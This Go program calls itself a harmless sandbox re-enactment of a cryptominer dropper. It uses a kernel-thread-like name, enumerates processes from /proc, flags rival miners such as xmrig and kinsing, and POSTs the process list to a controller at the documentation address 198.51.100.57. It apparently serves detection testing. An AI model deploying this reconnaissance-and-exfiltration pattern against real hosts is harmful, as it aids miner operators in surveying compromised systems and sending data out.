// kauditd2: harmless re-enactment of a miner dropper's process survey. It lists the running
// processes itself from /proc (no ps), looks for competitors and reports the list to its
// controller at 198.51.100.57 (a documentation address the sandbox answers).
package main

import (
	"bufio"
	"bytes"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"time"
)

var rivals = []string{"xmrig", "kdevtmpfsi", "kinsing", "sysupdate", "networkservice"}

func field(status, key string) string {
	sc := bufio.NewScanner(strings.NewReader(status))
	for sc.Scan() {
		if line := sc.Text(); strings.HasPrefix(line, key+":") {
			return strings.Fields(line[len(key)+1:] + " ?")[0]
		}
	}
	return "?"
}

func main() {
	var kids []*exec.Cmd
	for _, d := range []string{"30", "31"} {
		c := exec.Command("/bin/sleep", d)
		if c.Start() == nil {
			kids = append(kids, c)
		}
	}
	time.Sleep(300 * time.Millisecond)

	entries, err := os.ReadDir("/proc")
	if err != nil {
		fmt.Println("kauditd2:", err)
		return
	}
	var list bytes.Buffer
	found := 0
	for _, e := range entries {
		if _, err := strconv.Atoi(e.Name()); err != nil {
			continue
		}
		raw, err := os.ReadFile("/proc/" + e.Name() + "/status")
		if err != nil {
			continue
		}
		s := string(raw)
		name := field(s, "Name")
		fmt.Fprintf(&list, "%s %s %s %s\n", e.Name(), field(s, "PPid"), field(s, "Uid"), name)
		for _, r := range rivals {
			if strings.Contains(name, r) {
				fmt.Fprintf(&list, "rival %s %s\n", e.Name(), name)
				found++
			}
		}
	}
	client := &http.Client{Timeout: 5 * time.Second}
	resp, err := client.Post("http://198.51.100.57/api/v2/ps", "text/plain", &list)
	if err == nil {
		resp.Body.Close()
		fmt.Println("kauditd2: reported", resp.Status, "rivals", found)
	} else {
		fmt.Println("kauditd2: report failed:", err)
	}
	for _, k := range kids {
		k.Process.Kill()
		k.Wait()
	}
}
